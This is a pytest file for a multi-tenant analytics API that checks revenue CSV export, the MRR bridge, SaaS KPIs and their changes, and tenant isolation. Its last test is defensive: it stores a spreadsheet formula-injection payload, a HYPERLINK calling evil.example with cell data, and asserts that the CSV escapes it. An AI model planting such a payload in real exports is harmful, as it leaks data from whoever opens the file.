"""The Dashboard API's figures on hand-worked rows: the tables as CSV, the MRR bridge, the KPIs and
their change against the previous period, and the periodic tables answering alike."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import sqlalchemy as sa

from analytics_pipeline.core.sql import load_sql

from .api_data import TODAY, two_tenants
from ..api_support import api_env, auth, client, redis_prefix, redis_server_url
from ..helpers import add_tenant, rows


def test_revenue_csv_has_every_column_and_the_rows(client, engine, two_tenants):
    since = (TODAY - dt.timedelta(days=9)).isoformat()
    response = client.get(f"/v1/revenue?period_type=day&from={since}&format=csv", headers=auth("globex"))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(response.text)))
    with engine.connect() as conn:
        columns = list(conn.execute(sa.text(
            "SELECT column_name FROM information_schema.columns WHERE table_name = 'revenue_aggregates'"
        )).scalars())
        expected = rows(conn, "SELECT period_start, total_revenue FROM revenue_aggregates WHERE tenant_id = 'globex' "
                        "AND period_type = 'day' AND period_start >= :s ORDER BY period_start", s=since)
    assert set(table[0]) == {*columns, "currency"}  # the tenant's, beside the amounts
    assert [(r["period_start"], Decimal(r["total_revenue"])) for r in table] == [
        (e["period_start"].isoformat(), e["total_revenue"]) for e in expected
    ]


def _day_row(conn, tenant, day, mrr, new=0, expansion=0, reactivation=0, contraction=0, churned=0):
    conn.execute(sa.text(
        "INSERT INTO revenue_aggregates (id, tenant_id, period_start, period_end, period_type, mrr, arr, "
        "new_revenue, expansion_revenue, reactivation_revenue, contraction_revenue, churned_revenue, "
        "total_revenue, payment_count, payment_success_count, refund_count, refund_amount) "
        "VALUES (:id, :t, :d, :d, 'day', :mrr, :mrr * 12, :new, :exp, :re, :con, :ch, 0, 0, 0, 0, 0)"
    ), {"id": f"{tenant}:day:{day}", "t": tenant, "d": day, "mrr": mrr, "new": new, "exp": expansion,
        "re": reactivation, "con": contraction, "ch": churned})


def test_mrr_bridge_worked_by_hand(client, engine):
    with engine.begin() as conn:
        add_tenant(conn, "acme")
        _day_row(conn, "acme", "2025-03-31", 100)  # the opening: end of the day before the range
        _day_row(conn, "acme", "2025-04-01", 150, new=50)
        _day_row(conn, "acme", "2025-04-02", 130, churned=20)
        # 2025-04-03 has no row: no MRR that day and no movement; then a reactivation.
        _day_row(conn, "acme", "2025-04-03", 0, churned=130)
        _day_row(conn, "acme", "2025-04-04", 45, reactivation=40, expansion=5)
        _day_row(conn, "acme", "2025-04-05", 42, contraction=3)
        _day_row(conn, "acme", "2025-04-06", 60, new=18)  # after the range: not counted
    body = client.get("/v1/revenue/bridge?from=2025-04-01&to=2025-04-05", headers=auth("acme")).json()
    # 100 + 50 + 40 + 5 - 3 - 150 = 42
    assert {k: body[k] for k in ("opening_mrr", "new_revenue", "reactivation_revenue", "expansion_revenue",
                                 "contraction_revenue", "churned_revenue", "closing_mrr", "identity_holds")} == {
        "opening_mrr": 100, "new_revenue": 50, "reactivation_revenue": 40, "expansion_revenue": 5,
        "contraction_revenue": 3, "churned_revenue": 150, "closing_mrr": 42, "identity_holds": True,
    }
    # A range whose day before has no row opens at 0.
    assert client.get("/v1/revenue/bridge?from=2025-03-31&to=2025-03-31", headers=auth("acme")).json()["opening_mrr"] == 0


def test_kpis_of_a_month_against_the_month_before(client, engine):
    with engine.begin() as conn:
        add_tenant(conn, "acme")
        for start, end, mrr, new, churned in (("2025-03-01", "2025-03-31", 200, 80, 10),
                                              ("2025-04-01", "2025-04-30", 250, 100, 30)):
            conn.execute(sa.text(
                "INSERT INTO revenue_aggregates (id, tenant_id, period_start, period_end, period_type, mrr, arr, "
                "new_revenue, expansion_revenue, reactivation_revenue, contraction_revenue, churned_revenue, "
                "total_revenue, payment_count, payment_success_count, refund_count, refund_amount) "
                "VALUES (:id, 'acme', :s, :e, 'month', :mrr, :mrr * 12, :new, 0, 0, 0, :ch, 0, 0, 0, 0, 0)"
            ), {"id": f"acme:month:{start}", "s": start, "e": end, "mrr": mrr, "new": new, "ch": churned})
    body = client.get("/v1/kpis?period_type=month&day=2025-04-30", headers=auth("acme")).json()
    kpis = {k["kpi"]: k for k in body["kpis"]}
    assert body["period_start"] == "2025-04-01" and body["previous_period_start"] == "2025-03-01"
    assert (kpis["mrr"]["current"], kpis["mrr"]["previous"], kpis["mrr"]["change_pct"]) == (250, 200, 25.0)
    assert (kpis["arr"]["current"], kpis["arr"]["previous"]) == (3000, 2400)
    # net new = new - churned: 100 - 30 = 70 against 80 - 10 = 70.
    assert (kpis["net_new_mrr"]["current"], kpis["net_new_mrr"]["previous"], kpis["net_new_mrr"]["change_pct"]) == (70, 70, 0.0)
    # A period without rows: zeros, and no change against zero.
    empty = {k["kpi"]: k for k in client.get("/v1/kpis?period_type=month&day=2025-06-01", headers=auth("acme")).json()["kpis"]}
    assert (empty["mrr"]["current"], empty["mrr"]["previous"], empty["mrr"]["change_pct"]) == (0, 0, None)


def _month_row(conn, tenant, start, end, **values):
    columns = ("mrr", "new_revenue", "expansion_revenue", "reactivation_revenue", "contraction_revenue",
               "churned_revenue", "active_customers", "new_customers", "reactivated_customers", "churned_customers")
    row = {c: 0 for c in columns} | values
    conn.execute(sa.text(
        "INSERT INTO revenue_aggregates (id, tenant_id, period_start, period_end, period_type, arr, total_revenue, "
        f"payment_count, payment_success_count, refund_count, refund_amount, {', '.join(columns)}) "
        f"VALUES (:id, :t, :s, :e, 'month', 12 * :mrr, 0, 0, 0, 0, 0, {', '.join(':' + c for c in columns)})"
    ), {"id": f"{tenant}:month:{start}", "t": tenant, "s": start, "e": end, **row})


def test_saas_kpis_are_the_views_for_the_tokens_tenant_and_null_stays_null(client, engine):
    with engine.begin() as conn:
        add_tenant(conn, "acme")
        add_tenant(conn, "globex")
        # March: the first month, 5 customers bring 155 of MRR: opening MRR and customers 0, nothing
        # lost, so every rate, retention and the quick ratio are null. ARPA 155 / 5 = 31.00.
        _month_row(conn, "acme", "2025-03-01", "2025-03-31", mrr=155, new_revenue=155, active_customers=5,
                   new_customers=5)
        # April: 250 = 155 + 100 new + 10 reactivation + 20 expansion - 5 contraction - 30 churned;
        # 8 customers = 5 + 4 new + 1 reactivated - 2 churned.
        _month_row(conn, "acme", "2025-04-01", "2025-04-30", mrr=250, new_revenue=100, reactivation_revenue=10,
                   expansion_revenue=20, contraction_revenue=5, churned_revenue=30, active_customers=8,
                   new_customers=4, reactivated_customers=1, churned_customers=2)
        # globex: ARPA 9,999.99 and an NRR of 7.0 that must never reach acme.
        _month_row(conn, "globex", "2025-04-01", "2025-04-30", mrr=9999.99, expansion_revenue=8571.42,
                   active_customers=1)
    body = client.get("/v1/kpis?period_type=month&day=2025-04-30", headers=auth("acme")).json()
    kpis = {k["kpi"]: k for k in body["kpis"]}
    worked_out = {  # (April, March)
        "active_customers": (8, 5), "new_customers": (4, 5), "reactivated_customers": (1, 0),
        "churned_customers": (2, 0), "arpa": (31.25, 31.00), "logo_churn_rate": (2 / 5, None),
        "gross_mrr_churn_rate": (35 / 155, None), "net_mrr_churn_rate": (5 / 155, None),
        "grr": (120 / 155, None), "nrr": (140 / 155, None), "quick_ratio": (130 / 35, None),
        "ttm_nrr": (None, None), "ttm_grr": (None, None),  # no TTM cohort figures stored
    }
    for kpi, (current, previous) in worked_out.items():
        got = (kpis[kpi]["current"], kpis[kpi]["previous"])
        assert got == (pytest.approx(current), pytest.approx(previous)) if current is not None else got == (None, None), kpi
    units = {k: v["unit"] for k, v in kpis.items()}
    assert units["arpa"] == "amount" and units["active_customers"] == "count" and units["quick_ratio"] == "number"
    assert {units[k] for k in ("logo_churn_rate", "gross_mrr_churn_rate", "net_mrr_churn_rate", "grr", "nrr",
                               "ttm_nrr", "ttm_grr")} == {"ratio"}
    # Null stays null in the JSON text itself, and so does a change against it.
    assert kpis["nrr"]["change_points"] is None and kpis["nrr"]["change_pct"] is None
    assert kpis["arpa"]["change_pct"] == 0.8 and kpis["arpa"]["change_points"] is None  # 31.25 against 31.00

    # Every value is the view's for the token's tenant.
    with engine.connect() as conn:
        view = conn.execute(sa.text(
            "SELECT * FROM revenue_kpis WHERE tenant_id = 'acme' AND period_type = 'month' "
            "AND period_start IN ('2025-04-01', '2025-03-01') ORDER BY period_start DESC")).mappings().all()
    april, march = view
    for kpi in worked_out:
        for side, row in (("current", april), ("previous", march)):
            expected = None if row[kpi] is None else float(row[kpi])
            assert kpis[kpi][side] == expected, (kpi, side)

    # The other tenant's token sees its own KPIs, and acme's answer holds none of them.
    other = {k["kpi"]: k for k in client.get("/v1/kpis?period_type=month&day=2025-04-30",
                                              headers=auth("globex")).json()["kpis"]}
    assert other["arpa"]["current"] == 9999.99 and other["active_customers"]["current"] == 1
    text = client.get("/v1/kpis?period_type=month&day=2025-04-30", headers=auth("acme")).text
    assert "9999.99" not in text and "globex" not in text

    # A ratio's change in points: a week with a retention after one with another.
    week = {k["kpi"]: k for k in client.get("/v1/kpis?period_type=week&day=2025-04-30",
                                             headers=auth("acme")).json()["kpis"]}
    assert week["nrr"]["current"] is None and week["active_customers"]["current"] == 0  # no week rows


def test_kpi_change_in_points_for_ratios(client, engine):
    with engine.begin() as conn:
        add_tenant(conn, "acme")
        # NRR 80 % in March (opening 100: 100 - 20 churned), 90 % in April (opening 80: 80 - 8).
        _month_row(conn, "acme", "2025-03-01", "2025-03-31", mrr=80, churned_revenue=20, active_customers=4,
                   churned_customers=1)
        _month_row(conn, "acme", "2025-04-01", "2025-04-30", mrr=72, churned_revenue=8, active_customers=3,
                   churned_customers=1)
    kpis = {k["kpi"]: k for k in client.get("/v1/kpis?period_type=month&day=2025-04-30",
                                             headers=auth("acme")).json()["kpis"]}
    assert (kpis["nrr"]["current"], kpis["nrr"]["previous"]) == (pytest.approx(0.9), pytest.approx(0.8))
    assert kpis["nrr"]["change_points"] == 10.0
    assert kpis["nrr"]["change_pct"] == 12.5
    # Logo churn 1 of 5 opening customers = 20 % in March, 1 of 4 = 25 % in April: +5 points, +25 %.
    assert (kpis["logo_churn_rate"]["change_points"], kpis["logo_churn_rate"]["change_pct"]) == (5.0, 25.0)


def test_a_kpis_change_is_the_one_the_reports_show(client, engine):
    """One rule for the change against the previous period (migration 0020), in numeric: rounded
    half away from zero and never -0.0, the same numbers as the reports' KPI block."""
    with engine.begin() as conn:
        add_tenant(conn, "acme")
        _month_row(conn, "acme", "2025-02-01", "2025-02-28", mrr=10000, new_revenue=10000, active_customers=400,
                   new_customers=400)
        # March: 1 of 400 customers and 20 of 10,000 MRR lost, as much won: logo churn 0.25 %, GRR 99.8 %.
        _month_row(conn, "acme", "2025-03-01", "2025-03-31", mrr=10000, new_revenue=20, churned_revenue=20,
                   active_customers=400, new_customers=1, churned_customers=1)
        # April: 2 of 400 lost, 3 won: 401 customers (+0.25 %), MRR 9,996 (-0.04 %), logo churn 0.5 %
        # (+0.25 points), GRR 99.9 % (+0.1 points), ARPA 24.93 against 25.00 (-0.28 %).
        _month_row(conn, "acme", "2025-04-01", "2025-04-30", mrr=9996, new_revenue=6, churned_revenue=10,
                   active_customers=401, new_customers=3, churned_customers=2)
    response = client.get("/v1/kpis?period_type=month&day=2025-04-30", headers=auth("acme"))
    kpis = {k["kpi"]: k for k in response.json()["kpis"]}
    assert kpis["active_customers"]["change_pct"] == 0.3  # a half rounds away from zero
    assert kpis["mrr"]["change_pct"] == 0.0 and '"change_pct":-0.0' not in response.text
    assert kpis["arpa"]["change_pct"] == -0.3
    assert (kpis["logo_churn_rate"]["change_points"], kpis["logo_churn_rate"]["change_pct"]) == (0.3, 100.0)
    assert (kpis["grr"]["change_points"], kpis["grr"]["change_pct"]) == (0.1, 0.1)
    assert kpis["net_new_mrr"]["change_pct"] is None  # against 0

    # The reports' KPI block: the change in points for a ratio, in percent for the others.
    report_sql = load_sql("analytics_pipeline.reports", "revenue_kpis")
    with engine.connect() as conn:
        block = conn.execute(sa.text(report_sql), {
            "tenant_id": "acme", "period_type": "month", "start": dt.date(2025, 4, 1),
            "end": dt.date(2025, 4, 30), "previous_start": dt.date(2025, 3, 1)}).mappings().all()
    assert len(block) == 9
    for figure in block:
        api = kpis[figure["metric"]]
        shown = api["change_points"] if figure["unit"] == "ratio" else api["change_pct"]
        assert (None if figure["change_pct"] is None else float(figure["change_pct"])) == shown, figure["metric"]


def test_the_periodic_tables_answer_alike(client, two_tenants):
    """/v1/revenue and /v1/tournaments are one endpoint over two tables: same parameters, default
    range, body, CSV file name and caching."""
    for path, aggregate in (("/v1/revenue", "revenue_aggregates"), ("/v1/tournaments", "tournament_aggregates")):
        resource = path.rsplit("/", 1)[-1]
        body = client.get(f"{path}?period_type=week", headers=auth("acme"))
        assert body.headers["x-cache"] == "miss", path
        assert client.get(f"{path}?period_type=week", headers=auth("acme")).headers["x-cache"] == "hit", path
        payload = body.json()
        assert list(payload) == ["tenant_id", "period_type", "from", "to", "currency", "rows", "data_updated_at",
                                 "data_stale_after"], path
        # 26 weeks ending with this one, whichever table.
        assert payload["from"] == (TODAY - dt.timedelta(days=TODAY.weekday() + 7 * 25)).isoformat(), path
        assert payload["rows"] and {r["period_type"] for r in payload["rows"]} == {"week"}, path
        csv_answer = client.get(f"{path}?period_type=week&format=csv", headers=auth("acme"))
        assert csv_answer.headers["content-disposition"] == (
            f'attachment; filename="{resource}_week_{payload["from"]}_{payload["to"]}.csv"'), path
        assert csv_answer.text.splitlines()[0].startswith("id,tenant_id,period_type,period_start,period_end,"), path
    schema = client.get("/openapi.json").json()["paths"]
    revenue, tournaments = schema["/v1/revenue"]["get"], schema["/v1/tournaments"]["get"]
    assert revenue["parameters"] == tournaments["parameters"]
    assert (revenue["operationId"], tournaments["operationId"]) == (
        "revenue_series_v1_revenue_get", "tournaments_v1_tournaments_get")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_tournament_format_cannot_become_a_formula_in_the_csv(client, engine, prefix):
    """A tenant's user names the format; the organizer opens the CSV in a spreadsheet."""
    fmt = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Click")'
    with engine.begin() as conn:
        add_tenant(conn, "acme")
        conn.execute(sa.text(
            "INSERT INTO tournament_aggregates (id, tenant_id, period_start, period_end, period_type, "
            "tournament_count, completed_count, completion_rate, total_players, avg_players, "
            "avg_duration_minutes, most_popular_format, revenue) "
            "VALUES ('acme:day:2025-04-01', 'acme', '2025-04-01', '2025-04-01', 'day', 2, 1, 50, 8, 4, 30, :f, -12.50)"
        ), {"f": fmt})
    response = client.get("/v1/tournaments?period_type=day&from=2025-04-01&to=2025-04-01&format=csv",
                          headers=auth("acme"))
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert row["most_popular_format"] == "'" + fmt
    assert row["revenue"] == "-12.50"  # a negative amount stays a number
